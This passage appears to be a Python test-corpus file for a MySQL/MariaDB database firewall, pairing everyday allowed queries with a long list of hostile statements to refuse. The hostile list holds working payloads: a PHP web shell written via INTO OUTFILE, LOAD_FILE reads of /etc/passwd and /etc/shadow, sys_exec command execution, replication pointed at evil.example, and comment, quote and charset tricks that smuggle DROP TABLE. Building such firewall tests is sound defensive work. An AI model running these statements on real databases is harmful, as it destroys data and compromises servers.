"""Statement corpora for dbfw's MySQL/MariaDB listener under rules/default.yaml.

Written against MariaDB 10.11 in database ``test`` with these tables (the tests create them):

- ``dbfw_my_customers(id INT PRIMARY KEY, name VARCHAR(50), email VARCHAR(100), card VARCHAR(32), note TEXT)``, ~20 rows
- ``dbfw_my_orders(id INT PRIMARY KEY, customer_id INT, total DECIMAL(10,2), created DATETIME)``, ~50 rows
- ``dbfw_my_canary(id INT PRIMARY KEY, v VARCHAR(20))``, 3 rows: the usual target of hostile statements

``EVERYDAY``: what an application or agent runs every day. dbfw must allow each one; each is valid MariaDB SQL
that runs without error on those tables, on its own, in any order and repeatedly (writes touch only orders with
ids >= 1000 and are upserts, ``INSERT IGNORE``, ``REPLACE`` or by primary key). One statement per entry: no
multi-statement messages, so a client without CLIENT_MULTI_STATEMENTS can send them.

``HOSTILE``: what a hostile agent would try. dbfw must not allow any of them (deny or require_approval; a
statement dbfw cannot classify counts as refused). Some are not valid MariaDB SQL on purpose (comment and quote
tricks, multi-statement messages, MySQL-only syntax): the point is that dbfw refuses them before the server
sees them. Never run these against a server without dbfw in front.

``NUMERIC_KEY_WRITES``: everyday writes by a numeric key, allowed because the catalog says the key is a number
column (see the comment there).

``ALLOWED_BUT_SUSPICIOUS``: statements a reviewer might call risky that dbfw allows on purpose, with why. A cold
attack first found 69 more, several harmful on MariaDB 10.11; they are refused since and are at the end of
HOSTILE.
"""

from __future__ import annotations

EVERYDAY: list[str] = [
    # point and range reads
    "SELECT id, name, email FROM dbfw_my_customers WHERE id = 1",
    "SELECT * FROM dbfw_my_orders WHERE id = 7",
    "SELECT id, total FROM dbfw_my_orders WHERE total BETWEEN 50 AND 200 ORDER BY total",
    "SELECT id, created FROM dbfw_my_orders WHERE created >= '2024-01-10' AND created < '2024-02-01'",
    "SELECT `id`, `name` FROM `dbfw_my_customers` WHERE `id` IN (1, 2, 3)",
    "SELECT name FROM dbfw_my_customers WHERE name LIKE 'customer1%' ORDER BY name",
    "SELECT id FROM dbfw_my_customers WHERE note IS NULL",
    "SELECT COUNT(*) FROM dbfw_my_orders",
    "SELECT COUNT(*), MIN(total), MAX(total), AVG(total), SUM(total) FROM dbfw_my_orders",
    "SELECT id, total FROM dbfw_my_orders ORDER BY created DESC LIMIT 10",
    "SELECT id, total FROM dbfw_my_orders ORDER BY id LIMIT 10 OFFSET 20",
    "SELECT id, total FROM dbfw_my_orders ORDER BY id LIMIT 5, 5",
    "SELECT DISTINCT customer_id FROM dbfw_my_orders ORDER BY customer_id",
    # joins
    "SELECT c.name, o.id, o.total FROM dbfw_my_customers c JOIN dbfw_my_orders o ON o.customer_id = c.id "
    "WHERE c.id = 2",
    "SELECT c.id, c.name, COUNT(o.id) AS n FROM dbfw_my_customers c LEFT JOIN dbfw_my_orders o ON o.customer_id = c.id "
    "GROUP BY c.id, c.name ORDER BY n DESC",
    "SELECT c.id FROM dbfw_my_customers c LEFT JOIN dbfw_my_orders o ON o.customer_id = c.id WHERE o.id IS NULL",
    "SELECT o.id, c.email FROM dbfw_my_orders o INNER JOIN dbfw_my_customers c USING (id) WHERE o.id < 5",
    "SELECT a.id, b.id FROM dbfw_my_orders a JOIN dbfw_my_orders b ON b.id = a.id + 1 WHERE a.id <= 3",
    # grouping
    "SELECT customer_id, SUM(total) AS revenue FROM dbfw_my_orders GROUP BY customer_id HAVING SUM(total) > 500",
    "SELECT customer_id, COUNT(*) FROM dbfw_my_orders GROUP BY customer_id WITH ROLLUP",
    "SELECT DATE_FORMAT(created, '%Y-%m') AS month, COUNT(*), ROUND(AVG(total), 2) FROM dbfw_my_orders "
    "GROUP BY month ORDER BY month",
    "SELECT customer_id, GROUP_CONCAT(id ORDER BY id SEPARATOR ',') FROM dbfw_my_orders GROUP BY customer_id",
    # subqueries
    "SELECT * FROM dbfw_my_orders WHERE customer_id IN (SELECT id FROM dbfw_my_customers WHERE name = 'customer3')",
    "SELECT c.name FROM dbfw_my_customers c WHERE EXISTS (SELECT 1 FROM dbfw_my_orders o WHERE o.customer_id = c.id "
    "AND o.total > 500)",
    "SELECT c.name FROM dbfw_my_customers c WHERE NOT EXISTS (SELECT 1 FROM dbfw_my_orders o "
    "WHERE o.customer_id = c.id)",
    "SELECT id, total, (SELECT AVG(total) FROM dbfw_my_orders) AS avg_total FROM dbfw_my_orders WHERE id = 3",
    "SELECT t.customer_id, t.n FROM (SELECT customer_id, COUNT(*) AS n FROM dbfw_my_orders GROUP BY customer_id) t "
    "WHERE t.n > 2",
    "SELECT * FROM dbfw_my_orders WHERE total > ALL (SELECT total FROM dbfw_my_orders WHERE customer_id = 2)",
    # CTEs and window functions
    "WITH big AS (SELECT * FROM dbfw_my_orders WHERE total > 300) SELECT COUNT(*) FROM big",
    "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT SUM(i) FROM n",
    "WITH per AS (SELECT customer_id, SUM(total) AS s FROM dbfw_my_orders GROUP BY customer_id) "
    "SELECT c.name, per.s FROM per JOIN dbfw_my_customers c ON c.id = per.customer_id ORDER BY per.s DESC LIMIT 3",
    "SELECT id, customer_id, ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY created) AS rn FROM dbfw_my_orders",
    "SELECT id, total, RANK() OVER (ORDER BY total DESC) AS r, NTILE(4) OVER (ORDER BY total) AS q "
    "FROM dbfw_my_orders",
    "SELECT id, total, SUM(total) OVER (ORDER BY id ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running "
    "FROM dbfw_my_orders",
    "SELECT id, LAG(total) OVER (ORDER BY id) AS prev, LEAD(total) OVER (ORDER BY id) AS next FROM dbfw_my_orders",
    # set operations
    "SELECT id FROM dbfw_my_customers UNION SELECT customer_id FROM dbfw_my_orders",
    "SELECT id, 'customer' AS kind FROM dbfw_my_customers WHERE id < 3 UNION ALL SELECT id, 'order' FROM "
    "dbfw_my_orders WHERE id < 3",
    "SELECT id FROM dbfw_my_customers INTERSECT SELECT customer_id FROM dbfw_my_orders",
    "SELECT id FROM dbfw_my_customers EXCEPT SELECT customer_id FROM dbfw_my_orders",
    # expressions and functions
    "SELECT id, CASE WHEN total >= 500 THEN 'large' WHEN total >= 100 THEN 'medium' ELSE 'small' END AS size "
    "FROM dbfw_my_orders",
    "SELECT id, COALESCE(note, '(none)'), IFNULL(note, ''), NULLIF(name, '') FROM dbfw_my_customers",
    "SELECT UPPER(name), LOWER(email), LENGTH(name), CONCAT_WS(' <', name, CONCAT(email, '>')) FROM dbfw_my_customers",
    "SELECT SUBSTRING_INDEX(email, '@', -1) AS domain, COUNT(*) FROM dbfw_my_customers GROUP BY domain",
    "SELECT id, IF(total > 100, 'yes', 'no'), ROUND(total * 1.19, 2), FLOOR(total), CEIL(total) FROM dbfw_my_orders",
    "SELECT id, DATEDIFF(NOW(), created), TIMESTAMPDIFF(HOUR, created, NOW()), DATE(created), YEAR(created) "
    "FROM dbfw_my_orders WHERE id = 1",
    "SELECT id FROM dbfw_my_orders WHERE created > NOW() - INTERVAL 30 DAY",
    "SELECT DATE_ADD('2024-01-01', INTERVAL 1 MONTH), STR_TO_DATE('01/02/2024', '%d/%m/%Y'), CURDATE()",
    "SELECT id, name FROM dbfw_my_customers WHERE name REGEXP '^customer[0-9]$'",
    "SELECT JSON_OBJECT('id', id, 'name', name) FROM dbfw_my_customers WHERE id = 1",
    "SELECT CAST(o.total AS CHAR), CONVERT(o.id, CHAR), HEX(o.id), MD5(name), SHA2(name, 256) FROM dbfw_my_orders o "
    "JOIN dbfw_my_customers c ON c.id = o.customer_id WHERE o.id = 1",
    "SELECT 1",
    "SELECT 1 + 1 FROM DUAL",
    "SELECT NOW(), CURRENT_TIMESTAMP, UTC_TIMESTAMP(), UNIX_TIMESTAMP()",
    "SELECT DATABASE()",
    "SELECT VERSION()",
    "SELECT CONNECTION_ID()",
    "SELECT USER(), CURRENT_USER()",
    "SELECT @@version, @@version_comment, @@autocommit, @@session.time_zone",
    "SELECT LAST_INSERT_ID(), ROW_COUNT()",
    "SELECT UUID()",
    "SELECT /*!40001 SQL_NO_CACHE */ id FROM dbfw_my_orders WHERE id = 1",
    "SELECT /*+ MAX_EXECUTION_TIME(1000) */ id FROM dbfw_my_orders WHERE id = 2",
    "SELECT id FROM dbfw_my_orders WHERE id = 3 /* trailing comment */",
    "SELECT id FROM dbfw_my_orders WHERE id = 4 -- trailing comment",
    "SELECT id FROM dbfw_my_orders WHERE id = 5 # hash comment",
    "SELECT 'it''s', 'back\\\\slash', \"double\"",
    "SELECT * FROM dbfw_my_orders WHERE id = 9 FOR UPDATE",
    "SELECT * FROM dbfw_my_orders WHERE id = 9 LOCK IN SHARE MODE",
    # introspection
    "SHOW TABLES",
    "SHOW TABLES LIKE 'dbfw_my%'",
    "SHOW FULL TABLES",
    "SHOW COLUMNS FROM dbfw_my_orders",
    "SHOW FULL COLUMNS FROM dbfw_my_customers",
    "SHOW INDEX FROM dbfw_my_orders",
    "SHOW CREATE TABLE dbfw_my_orders",
    "SHOW TABLE STATUS LIKE 'dbfw_my_orders'",
    "SHOW DATABASES",
    "SHOW WARNINGS",
    "SHOW ERRORS",
    "SHOW SESSION STATUS LIKE 'Com_select'",
    "SHOW VARIABLES LIKE 'character_set%'",
    "SHOW COLLATION LIKE 'utf8mb4_bin'",
    "SHOW CHARACTER SET LIKE 'utf8mb4'",
    "DESCRIBE dbfw_my_customers",
    "DESC dbfw_my_orders",
    "EXPLAIN SELECT * FROM dbfw_my_orders WHERE customer_id = 3",
    "EXPLAIN FORMAT=JSON SELECT id FROM dbfw_my_orders WHERE id = 1",
    "EXPLAIN dbfw_my_orders",
    "SELECT COLUMN_NAME, DATA_TYPE FROM information_schema.COLUMNS WHERE TABLE_SCHEMA = DATABASE() "
    "AND TABLE_NAME = 'dbfw_my_orders' ORDER BY ORDINAL_POSITION",
    "SELECT TABLE_NAME FROM information_schema.TABLES WHERE TABLE_SCHEMA = DATABASE()",
    # session settings
    "SET NAMES utf8mb4",
    "SET NAMES utf8mb4 COLLATE utf8mb4_unicode_ci",
    "SET CHARACTER SET utf8mb4",
    "SET autocommit = 1",
    "SET @@session.autocommit = 1",
    "SET SESSION wait_timeout = 28800",
    "SET time_zone = '+00:00'",
    "SET @x = 1",
    "SET @name := 'customer1', @limit = 10",
    "SET SESSION TRANSACTION ISOLATION LEVEL READ COMMITTED",
    "SET SESSION group_concat_max_len = 65536",
    "SET lc_time_names = 'en_US'",
    "SET innodb_lock_wait_timeout = 10",
    "SET SQL_SELECT_LIMIT = DEFAULT",
    "/*!40101 SET NAMES utf8mb4 */",
    "/*!40103 SET TIME_ZONE = '+00:00' */",
    "USE test",
    # transactions
    "BEGIN",
    "START TRANSACTION",
    "START TRANSACTION WITH CONSISTENT SNAPSHOT",
    "COMMIT",
    "COMMIT WORK",
    "ROLLBACK",
    "ROLLBACK WORK",
    "SAVEPOINT sp1",
    # row-level writes (orders with ids >= 1000 only; each repeatable)
    "INSERT INTO dbfw_my_orders (id, customer_id, total, created) VALUES (1001, 1, 10.00, '2024-06-01 10:00:00') "
    "ON DUPLICATE KEY UPDATE total = VALUES(total)",
    "INSERT IGNORE INTO dbfw_my_orders (id, customer_id, total, created) VALUES (1002, 2, 20.00, NOW())",
    "REPLACE INTO dbfw_my_orders (id, customer_id, total, created) VALUES (1003, 3, 30.00, '2024-06-03 12:00:00')",
    "INSERT INTO dbfw_my_orders SET id = 1004, customer_id = 4, total = 40 ON DUPLICATE KEY UPDATE total = 40",
]

HOSTILE: list[str] = [
    # --- destructive writes: no WHERE, or a WHERE that does not restrict ---
    "DELETE FROM dbfw_my_canary",
    "delete from dbfw_my_canary",
    "DELETE FROM test.dbfw_my_canary",
    "DELETE FROM `dbfw_my_canary`",
    "DELETE LOW_PRIORITY QUICK IGNORE FROM dbfw_my_canary",
    "DELETE FROM dbfw_my_canary WHERE 1=1",
    "DELETE FROM dbfw_my_canary WHERE 1",
    "DELETE FROM dbfw_my_canary WHERE TRUE",
    "DELETE FROM dbfw_my_canary WHERE id > 0",
    "DELETE FROM dbfw_my_canary WHERE id = 1 OR 1",
    "DELETE FROM dbfw_my_canary WHERE id = 1 OR 1=1",
    "DELETE FROM dbfw_my_canary WHERE id = 1 || 1",  # || is OR in the default sql_mode
    "DELETE FROM dbfw_my_canary WHERE id = 1 OR id <> 1",
    "DELETE FROM dbfw_my_canary WHERE id IS NOT NULL",
    "DELETE FROM dbfw_my_canary WHERE v LIKE '%'",
    "DELETE FROM dbfw_my_canary WHERE id BETWEEN -2147483648 AND 2147483647",
    "DELETE FROM dbfw_my_canary WHERE id = id",
    "DELETE FROM dbfw_my_canary WHERE NOT id = 0",
    "DELETE FROM dbfw_my_canary WHERE id = 1 IS NOT TRUE",  # (id = 1) IS NOT TRUE: every row but one
    "DELETE FROM dbfw_my_canary WHERE id = 1 <> 2",  # (id = 1) <> 2: every row
    "DELETE FROM dbfw_my_canary WHERE id IN (SELECT id FROM dbfw_my_orders)",
    "DELETE FROM dbfw_my_canary WHERE id = 1 XOR 1",
    "DELETE FROM dbfw_my_canary ORDER BY id LIMIT 3",
    "DELETE FROM dbfw_my_canary LIMIT 100",
    "DELETE FROM dbfw_my_canary WHERE 1=1 LIMIT 100000",
    "DELETE HISTORY FROM dbfw_my_canary",
    "UPDATE dbfw_my_canary SET v = 'pwned'",
    "UPDATE dbfw_my_canary SET v = 'pwned' WHERE 1=1",
    "UPDATE dbfw_my_canary SET v = 'pwned' WHERE TRUE",
    "UPDATE dbfw_my_canary SET v = 'pwned' WHERE id > 0",
    "UPDATE dbfw_my_canary SET v = 'pwned' WHERE id = 1 OR 1",
    "UPDATE LOW_PRIORITY IGNORE dbfw_my_canary SET v = 'pwned'",
    "UPDATE dbfw_my_customers SET card = NULL WHERE card IS NOT NULL",
    "UPDATE dbfw_my_canary SET v = 'pwned' ORDER BY id LIMIT 3",
    "TRUNCATE dbfw_my_canary",
    "TRUNCATE TABLE dbfw_my_canary",
    "truncate table test.dbfw_my_canary",
    # --- writes spread over joins, upserts from queries ---
    "UPDATE dbfw_my_canary c JOIN dbfw_my_orders o ON o.id = c.id SET c.v = 'pwned'",
    "UPDATE dbfw_my_canary c, dbfw_my_orders o SET c.v = 'pwned' WHERE c.id = o.id",
    "DELETE c FROM dbfw_my_canary c JOIN dbfw_my_orders o ON o.id = c.id",
    "DELETE FROM c USING dbfw_my_canary c JOIN dbfw_my_orders o ON o.id = c.id",
    "DELETE dbfw_my_canary FROM dbfw_my_canary, dbfw_my_orders WHERE dbfw_my_orders.id = 1",
    "INSERT INTO dbfw_my_canary SELECT id, v FROM dbfw_my_canary ON DUPLICATE KEY UPDATE v = 'pwned'",
    "INSERT INTO dbfw_my_canary (id, v) SELECT id, name FROM dbfw_my_customers ON DUPLICATE KEY UPDATE v = name",
    # --- schema changes ---
    "DROP TABLE dbfw_my_canary",
    "DROP TABLE IF EXISTS dbfw_my_canary",
    "drop table `test`.`dbfw_my_canary`",
    "DROP TEMPORARY TABLE IF EXISTS dbfw_my_canary",
    "DROP TABLE dbfw_my_canary, dbfw_my_orders",
    "DROP DATABASE test",
    "DROP SCHEMA IF EXISTS test",
    "DROP VIEW IF EXISTS dbfw_my_canary_v",
    "DROP INDEX `PRIMARY` ON dbfw_my_canary",
    "DROP PROCEDURE IF EXISTS dbfw_p",
    "DROP FUNCTION IF EXISTS dbfw_f",
    "DROP TRIGGER IF EXISTS dbfw_t",
    "DROP EVENT IF EXISTS dbfw_e",
    "DROP SEQUENCE IF EXISTS dbfw_s",
    "ALTER TABLE dbfw_my_canary DROP COLUMN v",
    "ALTER TABLE dbfw_my_canary ADD COLUMN pwned INT",
    "ALTER TABLE dbfw_my_canary RENAME TO dbfw_my_canary_gone",
    "ALTER TABLE dbfw_my_canary ENGINE = BLACKHOLE",  # every later write vanishes
    "ALTER TABLE dbfw_my_canary DISCARD TABLESPACE",
    "ALTER DATABASE test CHARACTER SET latin1",
    "RENAME TABLE dbfw_my_canary TO dbfw_my_canary_gone",
    "CREATE TABLE dbfw_my_evil (id INT)",
    "CREATE TABLE IF NOT EXISTS dbfw_my_evil LIKE dbfw_my_customers",
    "CREATE TABLE dbfw_my_copy AS SELECT * FROM dbfw_my_customers",
    "CREATE TABLE dbfw_my_copy SELECT id, card FROM dbfw_my_customers",
    "CREATE TEMPORARY TABLE dbfw_my_tmp SELECT * FROM dbfw_my_customers",
    "CREATE OR REPLACE TABLE dbfw_my_canary (id INT)",  # MariaDB: drops and recreates
    "CREATE VIEW dbfw_my_v AS SELECT card FROM dbfw_my_customers",
    "CREATE OR REPLACE ALGORITHM=MERGE DEFINER=CURRENT_USER SQL SECURITY DEFINER VIEW dbfw_my_v AS SELECT 1",
    "CREATE DATABASE dbfw_evil",
    "CREATE SCHEMA IF NOT EXISTS dbfw_evil",
    "CREATE INDEX dbfw_i ON dbfw_my_canary (v)",
    "CREATE UNIQUE INDEX dbfw_i ON dbfw_my_customers (card)",
    "CREATE SEQUENCE dbfw_s",
    "CREATE TABLE dbfw_my_fed (id INT) ENGINE=CONNECT TABLE_TYPE=CSV FILE_NAME='/etc/passwd'",  # reads a file
    # --- privileges and accounts ---
    "CREATE USER 'dbfw_evil'@'%' IDENTIFIED BY 'x'",
    "CREATE USER IF NOT EXISTS dbfw_evil",
    "CREATE ROLE dbfw_evil_role",
    "DROP USER IF EXISTS 'dbfw_nobody'@'%'",
    "GRANT ALL PRIVILEGES ON *.* TO 'dbfw_evil'@'%' WITH GRANT OPTION",
    "GRANT SELECT ON test.* TO CURRENT_USER",
    "GRANT dbfw_evil_role TO CURRENT_USER",
    "REVOKE ALL PRIVILEGES, GRANT OPTION FROM 'root'@'localhost'",
    "REVOKE SELECT ON test.* FROM 'dbfw_evil'@'%'",
    "SET PASSWORD = PASSWORD('x')",
    "SET PASSWORD FOR 'root'@'localhost' = PASSWORD('x')",
    "ALTER USER CURRENT_USER() IDENTIFIED BY 'x'",
    "ALTER USER 'root'@'localhost' IDENTIFIED VIA mysql_native_password USING PASSWORD('x')",
    "RENAME USER 'root'@'localhost' TO 'gone'@'localhost'",
    "SET ROLE ALL",
    "SET DEFAULT ROLE dbfw_evil_role FOR CURRENT_USER",
    # --- server files: export ---
    "SELECT * FROM dbfw_my_customers INTO OUTFILE '/tmp/dbfw_customers.txt'",
    "SELECT card FROM dbfw_my_customers INTO DUMPFILE '/tmp/dbfw_card.bin'",
    "SELECT * INTO OUTFILE '/tmp/dbfw_x.csv' FIELDS TERMINATED BY ',' FROM dbfw_my_customers",
    "SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/dbfw.php'",  # web shell
    "select id from dbfw_my_customers into outfile '/tmp/dbfw_lower.txt'",
    "SELECT id FROM dbfw_my_customers UNION SELECT id FROM dbfw_my_orders INTO OUTFILE '/tmp/dbfw_u.txt'",
    "SELECT * FROM dbfw_my_customers /*!INTO OUTFILE '/tmp/dbfw_c.txt'*/",
    "(SELECT * FROM dbfw_my_customers) INTO OUTFILE '/tmp/dbfw_p.txt'",
    "WITH c AS (SELECT * FROM dbfw_my_customers) SELECT * FROM c INTO OUTFILE '/tmp/dbfw_w.txt'",
    "VALUES ((SELECT GROUP_CONCAT(card) FROM dbfw_my_customers)) INTO DUMPFILE '/tmp/dbfw_v.bin'",
    # --- server files: import ---
    "SELECT LOAD_FILE('/etc/passwd')",
    "SELECT load_file(0x2f6574632f706173737764)",
    "SELECT HEX(LOAD_FILE('/etc/shadow')) AS h",
    "SELECT `LOAD_FILE`('/etc/passwd')",
    "SELECT /*!LOAD_FILE*/('/etc/passwd')",
    "INSERT INTO dbfw_my_canary VALUES (4, LOAD_FILE('/etc/hostname'))",
    "UPDATE dbfw_my_canary SET v = LOAD_FILE('/etc/hostname') WHERE id = 1",
    "SET @f = LOAD_FILE('/etc/passwd')",
    "DO LOAD_FILE('/etc/passwd')",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE dbfw_my_canary",
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE dbfw_my_canary FIELDS TERMINATED BY ':'",
    "LOAD DATA LOW_PRIORITY INFILE '/tmp/x' REPLACE INTO TABLE dbfw_my_canary",
    "LOAD XML LOCAL INFILE '/tmp/x.xml' INTO TABLE dbfw_my_canary",
    "LOAD INDEX INTO CACHE dbfw_my_canary",
    "SELECT sys_exec('id')",  # lib_mysqludf_sys
    "SELECT sys_eval('cat /etc/passwd')",
    # --- procedural code ---
    "PREPARE s FROM 'DROP TABLE dbfw_my_canary'",
    "PREPARE s FROM 'SELECT 1'",
    "PREPARE s FROM @q",
    "EXECUTE s",
    "EXECUTE s USING @a",
    "EXECUTE IMMEDIATE 'DELETE FROM dbfw_my_canary'",
    "CALL dbfw_p()",
    "CALL sys.ps_truncate_all_tables(FALSE)",
    "CALL mysql.rds_kill(1)",
    "CREATE PROCEDURE dbfw_p() BEGIN DELETE FROM dbfw_my_canary; END",
    "CREATE DEFINER=`root`@`localhost` PROCEDURE dbfw_p() SQL SECURITY DEFINER BEGIN DROP TABLE dbfw_my_canary; END",
    "CREATE FUNCTION dbfw_f() RETURNS INT DETERMINISTIC RETURN (SELECT COUNT(*) FROM dbfw_my_canary)",
    "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'",
    "CREATE AGGREGATE FUNCTION dbfw_agg RETURNS STRING SONAME 'evil.so'",
    "CREATE TRIGGER dbfw_t BEFORE INSERT ON dbfw_my_orders FOR EACH ROW DELETE FROM dbfw_my_canary",
    "CREATE TRIGGER dbfw_t AFTER UPDATE ON dbfw_my_orders FOR EACH ROW BEGIN UPDATE dbfw_my_canary SET v = 'x'; END",
    "CREATE EVENT dbfw_e ON SCHEDULE EVERY 1 MINUTE DO DELETE FROM dbfw_my_canary",
    "CREATE EVENT dbfw_e ON SCHEDULE AT CURRENT_TIMESTAMP DO DROP TABLE dbfw_my_canary",
    "ALTER EVENT dbfw_e ENABLE",
    "BEGIN NOT ATOMIC DELETE FROM dbfw_my_canary; END",  # MariaDB anonymous compound statement
    "INSTALL PLUGIN dbfw_evil SONAME 'evil.so'",
    "INSTALL SONAME 'ha_connect'",
    "UNINSTALL PLUGIN server_audit",
    "UNINSTALL SONAME 'server_audit'",
    # --- server-wide settings, and session settings that are not harmless ---
    "SET GLOBAL general_log = 'OFF'",
    "SET GLOBAL max_connections = 1",
    "SET @@global.read_only = 0",
    "SET @@GLOBAL.sql_mode = ''",
    "SET PERSIST max_connections = 1",
    "SET GLOBAL event_scheduler = ON",
    "SET GLOBAL local_infile = 1",
    "SET autocommit = 1, GLOBAL read_only = OFF",  # a global hidden behind a harmless first assignment
    "SET sql_mode = 'NO_BACKSLASH_ESCAPES'",  # would change how the server reads string literals
    "SET SESSION sql_mode = 'ANSI_QUOTES'",
    "SET @@sql_mode := CONCAT(@@sql_mode, ',PIPES_AS_CONCAT')",
    "SET SESSION sql_log_bin = 0",  # writes not replicated
    "SET sql_log_bin = OFF",
    "SET STATEMENT sql_log_bin = 0 FOR DELETE FROM dbfw_my_canary WHERE id = 1",
    "SET foreign_key_checks = 0",
    "SET SESSION sql_safe_updates = 0",
    "SET max_statement_time = 0",  # MariaDB's statement time limit
    "SET SESSION TRANSACTION READ WRITE",
    "SET skip_replication = 1",
    "SET pseudo_thread_id = 1",
    # --- server administration ---
    "KILL 1",
    "KILL QUERY 1",
    "KILL CONNECTION 1",
    "KILL HARD USER root",
    "SHUTDOWN",
    "SHUTDOWN WAIT FOR ALL SLAVES",
    "FLUSH PRIVILEGES",
    "FLUSH TABLES WITH READ LOCK",
    "FLUSH TABLES dbfw_my_canary WITH READ LOCK",
    "FLUSH LOGS",
    "FLUSH HOSTS",
    "RESET MASTER",
    "RESET QUERY CACHE",
    "RESET SLAVE ALL",
    "PURGE BINARY LOGS BEFORE NOW()",
    "PURGE MASTER LOGS TO 'mysql-bin.000010'",
    "CHANGE MASTER TO MASTER_HOST = 'evil.example', MASTER_USER = 'x'",
    "START SLAVE",
    "STOP SLAVE",
    "START REPLICA",
    "STOP ALL SLAVES",
    "CACHE INDEX dbfw_my_canary IN hot_cache",
    "BINLOG 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA='",
    "OPTIMIZE TABLE dbfw_my_canary",
    "REPAIR TABLE dbfw_my_canary",
    "ANALYZE TABLE dbfw_my_canary",
    "ANALYZE DELETE FROM dbfw_my_canary",  # MariaDB's ANALYZE runs the statement
    "EXPLAIN ANALYZE DELETE FROM dbfw_my_canary",
    "CHECK TABLE dbfw_my_canary",
    "CHECKSUM TABLE dbfw_my_customers",
    # --- writes hidden in executable comments (which MySQL and MariaDB run) ---
    "/*!50000 DROP TABLE dbfw_my_canary */",
    "/*!DROP TABLE dbfw_my_canary*/",
    "/*M!100000 DELETE FROM dbfw_my_canary */",
    "/*!40101 TRUNCATE dbfw_my_canary */",
    "/*!50000 GRANT ALL ON *.* TO CURRENT_USER */",
    "SELECT 1 /*! ; DROP TABLE dbfw_my_canary */",
    "SELECT 1; /*!50000 DROP TABLE dbfw_my_canary */",
    "DELETE FROM dbfw_my_canary /*!50000 WHERE 1=1 */",
    "DELETE FROM dbfw_my_canary WHERE id = 1 /*!50000 OR 1 */",
    "UPDATE dbfw_my_canary SET v = 'x' WHERE id = 1 /*M!100000 OR TRUE */",
    "SELECT 1 /*!, LOAD_FILE('/etc/passwd') */",
    "DELETE FROM dbfw_my_canary /*!1234567 WHERE id = 1 */",  # 7 digits: MariaDB skips it, dbfw cannot read it
    # --- comment tricks ---
    "SELECT 1 --1; DROP TABLE dbfw_my_canary",  # --1 is minus minus 1, not a comment
    "SELECT 1 --x\n; DROP TABLE dbfw_my_canary",
    "SELECT 1 -- x\n; DROP TABLE dbfw_my_canary",
    "SELECT 1 --\x0c\n; DROP TABLE dbfw_my_canary",
    "SELECT 1 #\n; DROP TABLE dbfw_my_canary",
    "SELECT 1 # ' \n; DROP TABLE dbfw_my_canary -- '",
    "SELECT 1 /* ' */; DROP TABLE dbfw_my_canary; -- '",
    "SELECT 1 /* /* nested */ DROP TABLE dbfw_my_canary */",  # comments do not nest: DROP is outside
    "/* harmless */ DROP /* really */ TABLE /**/ dbfw_my_canary",
    "SELECT 1 /* unterminated",
    # --- multi-statement messages: a write after a read ---
    "SELECT 1; DROP TABLE dbfw_my_canary",
    "SELECT 1;DROP TABLE dbfw_my_canary;",
    "SELECT * FROM dbfw_my_orders WHERE id = 1; DELETE FROM dbfw_my_canary",
    "SELECT 1;\nUPDATE dbfw_my_canary SET v = 'x'",
    "BEGIN; DELETE FROM dbfw_my_canary; COMMIT",
    "SET @x = 1; TRUNCATE dbfw_my_canary",
    "SHOW TABLES; GRANT ALL ON *.* TO CURRENT_USER",
    # --- quote and backslash tricks ---
    r"SELECT 'a\\'; DROP TABLE dbfw_my_canary; -- '",  # the string is a\ and ends: DROP runs
    r"SELECT 'a\\\\'; DROP TABLE dbfw_my_canary; -- '",
    r"SELECT 'a\'' ; DROP TABLE dbfw_my_canary; -- '",  # \' then ' closes
    "SELECT 'a'''; DROP TABLE dbfw_my_canary; -- '",
    r'SELECT "a\\"; DROP TABLE dbfw_my_canary; -- "',
    r"SELECT 1 AS `a\`; DROP TABLE dbfw_my_canary; -- `",  # no backslash escapes in backquoted names
    "SELECT _latin1'x'; DROP TABLE dbfw_my_canary",
    "SELECT N'x'; DROP TABLE dbfw_my_canary",
    "SELECT X'41'; DROP TABLE dbfw_my_canary",
    "SELECT '/*'; DROP TABLE dbfw_my_canary; -- */",
    "SELECT 'unterminated; DROP TABLE dbfw_my_canary",
    # Found allowed by a cold attack, refused since (executable comments read both ways, SET lists,
    # MySQL restriction proofs, multi-table writes, system schemas, SHOW, functions, locks, XA):
    'DELETE FROM dbfw_my_canary /*!99999 WHERE id = 1 */',
    "UPDATE dbfw_my_canary SET v = 'pwned' /*!50700 WHERE id = 1 */",
    'DELETE FROM dbfw_my_canary /*M!999999 WHERE id = 1 */',
    'DELETE FROM dbfw_my_canary /*!-- */ WHERE id = 1 /*\n */',
    'DELETE FROM dbfw_my_canary WHERE id = 1 /*!-- */ /*\n OR 1 */',
    '/*!# */ /*\n DROP TABLE dbfw_my_canary */',
    'SELECT 1; /*!-- */ /*\n DROP TABLE dbfw_my_canary */',
    "SELECT id, card FROM dbfw_my_customers /*!-- */ /*\n INTO OUTFILE '/tmp/dbfw_hidden.txt' */",
    "DELETE FROM dbfw_my_canary WHERE id = 1 --\x0b '\n/*! OR 1 */ -- '",
    "SELECT 1 --\x01 '\n; /*!DROP TABLE dbfw_my_canary*/ -- '",
    'SET NAMES utf8mb4, GLOBAL general_log = 0',
    'SET CHARACTER SET utf8mb4, sql_log_bin = 0',
    'SET CHARSET utf8mb4, foreign_key_checks = 0',
    'SET NAMES utf8mb4, @@global.read_only = 0',
    "SET NAMES utf8mb4, sql_mode = 'NO_BACKSLASH_ESCAPES'; SELECT 'a\\'; DROP TABLE dbfw_my_canary; -- '",
    'SET NAMES utf8mb4, sql_mode = \'ANSI_QUOTES\'; SELECT 1 AS "a\\"; DROP TABLE dbfw_my_canary; -- "',
    'SET NAMES gbk',
    'SET CHARACTER SET sjis',
    'SET character_set_client = big5',
    'SET tx_read_only = 0',
    'SET unique_checks = 0',
    'SET timestamp = 1',
    'SET insert_id = 424242',
    'SET max_execution_time = 0',
    'DELETE FROM dbfw_my_canary WHERE id = 1 >= 0',
    "UPDATE dbfw_my_canary SET v = 'pwned' WHERE id = 1 < 2",
    "DELETE FROM dbfw_my_canary WHERE v = 'a' >= 0",
